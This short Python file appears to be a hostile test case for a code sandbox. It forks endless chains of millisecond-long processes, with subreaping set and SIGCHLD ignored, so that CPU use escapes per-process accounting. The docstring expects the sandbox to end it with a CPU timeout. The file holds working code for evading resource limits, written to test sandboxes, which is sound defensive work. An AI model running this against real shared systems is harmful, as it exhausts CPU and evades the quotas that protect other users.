"""Computes in chains of processes of a millisecond each, whose ends their reaper ignores: no look at them finds them,
and nobody inherits their time.

aim: harm
ends: timeout_cpu
docker: the kernel's account of the container as a whole
bubblewrap: the kernel's account of the box's control group; where none can be made, nothing but the case's deadline
"""

import ctypes
import os
import signal
import time

CHILD_SUBREAPER = 36


def attack(x):
    ctypes.CDLL(None).prctl(CHILD_SUBREAPER, 1, 0, 0, 0)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(2):
        if os.fork() == 0:
            chain()
    time.sleep(600)


def chain():
    while True:
        end = time.thread_time() + 0.0005
        while time.thread_time() < end:
            pass
        try:
            if os.fork():
                os._exit(0)
        except OSError:  # all processes that the box may have
            pass
